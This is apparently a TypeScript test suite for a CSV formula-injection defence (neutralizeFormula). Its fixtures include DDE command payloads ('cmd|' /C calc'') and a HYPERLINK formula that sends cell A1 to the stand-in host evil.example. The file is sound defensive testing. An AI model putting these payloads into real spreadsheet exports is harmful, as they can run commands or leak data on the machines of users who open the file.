import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { formatCsvLine, plainDialect } from "../../src/report/csv-line.ts";
import { neutralizeFormula, unneutralizeFormula } from "../../src/report/neutralize-formula.ts";

describe("neutralizeFormula", () => {
  for (const text of [
    "=1+1",
    "+1",
    "-5",
    "@SUM(A1)",
    "\u0000=1",
    "\tx",
    "\rx",
    "\nx",
    "  =1",
    "\u00A0=1",
    "\u3000=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "\u180E=1",
    "\u200B=1",
    "\u00AD\u2060=1",
    "\u3164=1",
    "\u{E0001}=1",
    "﹦1",
    "-2+3+cmd|' /C calc'!A1",
  ]) {
    it(`disarms ${JSON.stringify(text)}`, () => {
      assert.equal(neutralizeFormula(text), `'${text}`);
    });
  }

  for (const [text, disarmed] of [
    ["x;=HYPERLINK(1);y", "x;'=HYPERLINK(1);y"],
    ["x,=1", "x,'=1"],
    ["x|=1", "x|'=1"],
    ["x\t=1", "x\t'=1"],
    ["x\n=1", "x\n'=1"],
    ["x\r\n=1", "x\r\n'=1"],
    [";=1;+x;@3", ";'=1;'+x;'@3"],
    ["x; =1", "x;' =1"],
    ['x;"=1"', `x;'"=1"`],
    ["x;\u180E＝1", "x;'\u180E＝1"],
    ["x;-2+3+cmd|' /C calc'!A1", "x;'-2+3+cmd|' /C calc'!A1"],
    ["x;-2 +cmd", "x;'-2 +cmd"],
    ["=1;=2", "'=1;'=2"],
    [" \n ＝1", " \n' ＝1"],
    ["\n=1", "'\n'=1"],
  ] as const)
    it(`disarms ${JSON.stringify(text)} wherever a spreadsheet splits it`, () => {
      assert.equal(neutralizeFormula(text), disarmed);
    });

  it("leaves text alone that no spreadsheet runs", () => {
    for (const text of [
      "",
      "a=b",
      "1-2",
      "a@b.example",
      "'=1",
      " a",
      "−5",
      "https://h.example/?a=1&b=2",
      "1;-5;+3.20",
      "from 5, -3",
      "it takes x, -. Correct the cell, or list its words.",
      "a;'=1",
      '"=1+1" has a comma',
      "line 2, column A: must be one of a|b|c",
      "2026-03-01;2026-03-02",
      "Müller; Söhne - Partner, Bern",
      "a, b - c",
    ]) {
      assert.equal(neutralizeFormula(text), text);
    }
  });

  it("leaves nothing to run in a line that is split at any sign", () => {
    const cells = [
      "=cmd|'/c calc'!A1",
      'x;=HYPERLINK("http://evil.example/?"&A1);y',
      ";=1+1;",
      "|=1+1",
      ';"=1+1"',
      'a";=1+1;"',
      '";"=1+1',
      "a,b;\t=1+1",
      "\u200B=1+1;\u180E=1",
      'DDE ("cmd";"/C calc";"x");@x',
    ];
    for (const cell of cells) {
      const texts = [cell, `line 2, column "A": "${cell}" has no day`].map(neutralizeFormula);
      const line = formatCsvLine(["1", "2", ...texts, "0"], plainDialect);
      for (const delimiter of [",", ";", "|", "\t"]) {
        const split: string[][] = parse(line, {
          delimiter,
          relax_quotes: true,
          relax_column_count: true,
        });
        const live = split.flat().filter((one) => /^[\s"\p{C}]*[=+\-@]/u.test(one));
        assert.deepEqual(live, [], JSON.stringify([delimiter, line]));
      }
    }
  });

  it("can be taken back", () => {
    for (const text of [
      "=1",
      "x;=1",
      "\t=1;@x",
      "\0=1",
      "-5",
      "a;'t Hart",
      "1;-5",
      ";+x|=y",
      "a,\n=1",
      "",
    ])
      assert.equal(unneutralizeFormula(neutralizeFormula(text)), text, JSON.stringify(text));
  });

  it("takes no longer than its text is long", () => {
    for (const text of ["\t", " ", ";", "-1,", "-1", ";=", ';"', "x;-", "\u180E"]) {
      const long = text.repeat(200_000 / text.length);
      assert.ok(neutralizeFormula(long).length >= long.length);
    }
  });
});
